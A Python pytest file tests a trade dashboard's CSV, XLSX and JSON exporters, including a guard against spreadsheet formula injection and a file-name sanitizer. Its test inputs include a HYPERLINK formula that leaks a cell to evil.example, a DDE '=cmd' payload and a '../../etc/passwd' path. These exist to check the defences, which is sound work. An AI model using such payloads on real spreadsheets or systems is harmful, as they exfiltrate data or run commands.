"""Downloads: round trips, the formula-injection guard, file names, the whole-dataset exports."""

from __future__ import annotations

import io
import json
import math
import re
from datetime import UTC, date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard.ingest.snapshot import load_observations, load_targets
from dashboard.report.files import (
    ABOUT_SHEET,
    DANGEROUS_FIRST_CHARS,
    XLSX_MAX_CELL_CHARS,
    dataset_csv,
    dataset_xlsx,
    export_filename,
    export_stem,
    guard_text,
    sources_table,
    to_csv_bytes,
    to_json_bytes,
    to_xlsx_bytes,
    unguard_frame,
    unguard_text,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=1+1",
]
GENERATED = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)


def _frame() -> pd.DataFrame:
    """Text with hostile and non-ASCII labels, negative and missing numbers, an int column."""
    labels = [*HOSTILE, "Қазақстан – 3.68亿美元", "x" * 5000, "'Exceeded $20 bn'", None]
    n = len(labels)
    return pd.DataFrame(
        {
            "label": pd.array(labels, dtype="str"),
            "year": np.arange(2015, 2015 + n, dtype="int64"),
            "value_usd": [
                -5.2,
                1.5e10,
                float("nan"),
                -0.0001,
                4.382e10,
                1.0,
                2.5,
                3.0,
                7.7,
                0.1,
                -1e12,
            ][:n],
        }
    )


def _read_csv(data: bytes) -> pd.DataFrame:
    return unguard_frame(pd.read_csv(io.BytesIO(data), encoding="utf-8-sig"))


def _read_xlsx(data: bytes, sheet: str = "Data") -> pd.DataFrame:
    return unguard_frame(pd.read_excel(io.BytesIO(data), sheet_name=sheet))


# --- the guard ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_guard_prefixes_one_apostrophe_to_formula_like_text(text):
    assert guard_text(text) == "'" + text
    assert unguard_text(guard_text(text)) == text


@pytest.mark.parametrize(
    "text", ["Astana", "Қазақстан", "3.68亿美元", "", " =1", "'quoted'", "a=b"]
)
def test_guard_leaves_harmless_text_alone(text):
    """A leading space or an ordinary apostrophe is not dangerous and stays as it is."""
    assert guard_text(text) == text
    assert unguard_text(text) == text


def test_guard_is_reversible_for_text_that_already_starts_with_an_apostrophe():
    """The text "'=1" could be a guarded "=1" or a user's own "'=1": the guard adds a second
    apostrophe so that unguarding always gives back exactly what was written."""
    assert guard_text("'=1") == "''=1"
    assert unguard_text("''=1") == "'=1"
    assert unguard_text(guard_text("=1")) == "=1"


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_guard_property_never_dangerous_and_reversible(text):
    guarded = guard_text(text)
    assert guarded[:1] not in DANGEROUS_FIRST_CHARS or guarded == ""
    assert unguard_text(guarded) == text
    # At most one apostrophe is added, and only in front.
    assert guarded in (text, "'" + text)


# --- CSV ----------------------------------------------------------------------------------------


def test_csv_round_trip_keeps_text_numbers_and_missing_values():
    df = _frame()
    data = to_csv_bytes(df)
    assert data.startswith(b"\xef\xbb\xbf")
    back = _read_csv(data)
    pd.testing.assert_frame_equal(back, df)
    assert back["year"].dtype == "int64"
    assert back["value_usd"].dtype == "float64"
    assert math.isnan(back.loc[2, "value_usd"])
    assert back.loc[0, "value_usd"] == -5.2


def test_csv_text_cells_are_guarded_but_negative_numbers_are_not():
    data = to_csv_bytes(_frame(), bom=False)
    assert not data.startswith(b"\xef\xbb\xbf")
    raw = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    for cell in raw["label"]:
        assert cell[:1] not in DANGEROUS_FIRST_CHARS
    assert raw.loc[0, "label"].startswith("'=HYPERLINK(")
    assert raw.loc[2, "label"] == "'-2+3"
    # The number -5.2 is written as a number, without an apostrophe.
    assert raw.loc[0, "value_usd"] == "-5.2"
    assert raw.loc[10, "value_usd"] == "-1000000000000.0"


def test_csv_without_bom_is_plain_utf8():
    data = to_csv_bytes(pd.DataFrame({"name": ["Қазақстан"]}), bom=False)
    assert data.decode("utf-8") == "name\r\nҚазақстан\r\n"


def test_csv_guards_hostile_column_names():
    df = pd.DataFrame({"=cmd|' /C calc'!A0": [1], "@x": ["ok"]})
    data = to_csv_bytes(df)
    header = data.decode("utf-8-sig").splitlines()[0]
    assert header.startswith("'=cmd|")
    assert header.endswith(",'@x")
    back = _read_csv(data)
    assert list(back.columns) == list(df.columns)


def test_csv_mixed_object_column_guards_only_strings():
    df = pd.DataFrame({"mixed": pd.Series(["=1", -3, 2.5, None], dtype=object), "n": range(4)})
    raw = to_csv_bytes(df, bom=False).decode()
    assert raw.split("\r\n")[1:5] == ["'=1,0", "-3,1", "2.5,2", ",3"]


# --- XLSX ---------------------------------------------------------------------------------------


def test_xlsx_round_trip_keeps_text_numbers_and_missing_values():
    df = _frame()
    data = to_xlsx_bytes(df, {"pair": "CHN-KAZ"}, None, "Tracker", generated=GENERATED)
    back = _read_xlsx(data)
    expected = df.copy()
    expected.loc[5, "label"] = "\n=1"  # XML stores CR as LF (documented)
    pd.testing.assert_frame_equal(back, expected)
    assert back["year"].dtype == "int64"
    assert back["value_usd"].dtype == "float64"
    assert back.loc[0, "value_usd"] == -5.2
    assert math.isnan(back.loc[2, "value_usd"])


def test_xlsx_text_cells_are_strings_never_formulas():
    df = pd.DataFrame({"=SUM(1)": HOSTILE, "v": range(len(HOSTILE))})
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(df)))
    ws = wb["Data"]
    assert ws["A1"].value == "'=SUM(1)"
    for row in ws.iter_rows(min_row=2):
        text, number = row
        assert text.data_type == "s"
        assert text.value.startswith("'")
        assert number.data_type == "n"


def test_xlsx_negative_numbers_stay_numbers():
    df = pd.DataFrame({"value": [-2.0, -3.5], "n": [-1, 4]})
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(df)))["Data"]
    assert [c.value for c in ws["A"][1:]] == [-2.0, -3.5]
    assert [c.value for c in ws["B"][1:]] == [-1, 4]
    assert all(c.data_type == "n" for c in ws["A"][1:])


def test_xlsx_drops_characters_xml_cannot_hold_and_caps_cell_length():
    long = "y" * (XLSX_MAX_CELL_CHARS + 10)
    df = pd.DataFrame({"t": ["a\x00b\x07c\ufffe", long]})
    back = _read_xlsx(to_xlsx_bytes(df))
    assert back.loc[0, "t"] == "abc"
    assert len(back.loc[1, "t"]) == XLSX_MAX_CELL_CHARS
    assert back.loc[1, "t"].endswith("…")


def test_xlsx_about_sheet_has_parameters_sources_and_time():
    sources = [{"source": "=evil", "source_url": "https://example.org/a", "published": "2025"}]
    data = to_xlsx_bytes(
        pd.DataFrame({"a": [1]}),
        {"pair": "CHN-KAZ", "multiple": 2.0, "years": (2024, 2030)},
        sources,
        "Tracker: CHN-KAZ",
        generated=GENERATED,
    )
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Data", ABOUT_SHEET]
    cells = {(c.row, c.column): c.value for row in wb[ABOUT_SHEET].iter_rows() for c in row}
    values = [v for v in cells.values() if v is not None]
    assert cells[(1, 1)] == "Tracker: CHN-KAZ"
    assert "2026-11-29T12:00:00+00:00" in values
    rows = {cells.get((r, 1)): cells.get((r, 2)) for r in range(1, 40)}
    assert rows["pair"] == "CHN-KAZ"
    assert rows["multiple"] == 2.0
    assert rows["years"] == "2024, 2030"
    # The source table: header then the row, with the hostile name guarded.
    assert "'=evil" in values and "https://example.org/a" in values


def test_xlsx_cells_hold_no_formulas_anywhere():
    data = dataset_xlsx(load_observations(), load_targets(), generated=GENERATED)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_xlsx_text_round_trip_property(texts):
    """Any text reads back as written, except what XML cannot carry (documented). An empty
    string is an empty cell, read back as "" with keep_default_na=False."""
    df = pd.DataFrame({"t": pd.array(texts, dtype=object), "n": range(len(texts))})
    back = unguard_frame(
        pd.read_excel(
            io.BytesIO(to_xlsx_bytes(df)), sheet_name="Data", dtype=str, keep_default_na=False
        )
    )
    expected = [
        re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", t)
        .replace("\r\n", "\n")
        .replace("\r", "\n")
        for t in texts
    ]
    assert list(back["t"]) == expected


# --- JSON ---------------------------------------------------------------------------------------


def test_json_has_parameters_time_and_null_for_nan():
    df = pd.DataFrame(
        {
            "year": [2024, 2025],
            "value_usd": [43.82e9, float("nan")],
            "n": pd.array([1, None], dtype="Int64"),
            "label": ["=1", "Қазақстан"],
        }
    )
    payload = json.loads(
        to_json_bytes(df, {"pair": "CHN-KAZ", "as_of": date(2026, 11, 29)}, generated=GENERATED)
    )
    assert payload["parameters"] == {"pair": "CHN-KAZ", "as_of": "2026-11-29"}
    assert payload["generated"] == "2026-11-29T12:00:00+00:00"
    assert payload["data"][0] == {"year": 2024, "value_usd": 43.82e9, "n": 1, "label": "=1"}
    assert payload["data"][1]["value_usd"] is None
    assert payload["data"][1]["n"] is None
    assert payload["data"][1]["label"] == "Қазақстан"


def test_json_infinity_becomes_null_and_sources_are_listed():
    df = pd.DataFrame({"g": [float("inf"), -float("inf"), 0.5]})
    src = pd.DataFrame({"source": ["A"], "source_url": ["https://a.example"]})
    payload = json.loads(to_json_bytes(df, {}, src))
    assert [r["g"] for r in payload["data"]] == [None, None, 0.5]
    assert payload["sources"] == [{"source": "A", "source_url": "https://a.example"}]


# --- file names ---------------------------------------------------------------------------------


def test_export_filename_matches_the_documented_example():
    name = export_filename("trade-tracker", "CHN-KAZ", "china customs", "csv", date(2026, 11, 29))
    assert name == "trade-tracker_CHN-KAZ_china-customs_2026-11-29.csv"
    stem = export_stem("trade-tracker", "CHN-KAZ", "china customs", date(2026, 11, 29))
    assert stem == "trade-tracker_CHN-KAZ_china-customs_2026-11-29"  # the menus add extensions


@pytest.mark.parametrize(
    ("kind", "pair", "basis", "ext", "expected"),
    [
        (
            "Trade tracker",
            "chn-kaz",
            "China customs (GACC)",
            ".XLSX",
            "trade-tracker_CHN-KAZ_china-customs-gacc_2026-11-29.xlsx",
        ),
        ("../../etc/passwd", "CHN/KAZ", "Қазақстан", "js;on", "etc-passwd_CHN-KAZ_2026-11-29.json"),
        ("mirror", "", "", "csv", "mirror_2026-11-29.csv"),
    ],
)
def test_export_filename_is_safe(kind, pair, basis, ext, expected):
    name = export_filename(kind, pair, basis, ext, date(2026, 11, 29))
    assert name == expected
    assert re.fullmatch(r"[A-Za-z0-9_-]+\.[a-z0-9]+", name)


# --- whole dataset ------------------------------------------------------------------------------


def test_dataset_csv_round_trips_the_snapshot():
    obs = load_observations()
    back = _read_csv(dataset_csv(obs))
    assert len(back) == len(obs)
    assert list(back.columns[:11]) == list(obs.columns[:11])
    pd.testing.assert_series_equal(back["value_usd"], obs["value_usd"])
    pd.testing.assert_series_equal(back["year"], obs["year"])
    # Notes with Chinese text and notes starting with an apostrophe come back unchanged.
    pd.testing.assert_series_equal(back["note"].fillna(""), obs["note"].fillna(""))
    assert any("亿美元" in n for n in back["note"].dropna())


def test_dataset_xlsx_has_both_tables_and_every_source():
    obs, targets = load_observations(), load_targets()
    data = dataset_xlsx(obs, targets, generated=GENERATED)
    wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert wb.sheetnames == ["Observations", "Targets", ABOUT_SHEET]
    back_obs = _read_xlsx(data, "Observations")
    back_targets = _read_xlsx(data, "Targets")
    assert len(back_obs) == len(obs) and len(back_targets) == len(targets)
    # Excel has one number type: whole dollar amounts read back as int64 (documented).
    pd.testing.assert_series_equal(back_obs["value_usd"], obs["value_usd"], check_dtype=False)
    pd.testing.assert_series_equal(back_targets["id"], targets["id"])
    about = pd.read_excel(io.BytesIO(data), sheet_name=ABOUT_SHEET, header=None, dtype=str)
    about_text = set(about.stack())
    expected_urls = set(sources_table(obs, targets)["source_url"])
    assert expected_urls <= about_text
    assert set(obs["source_url"]) | set(targets["source_url"]) == expected_urls
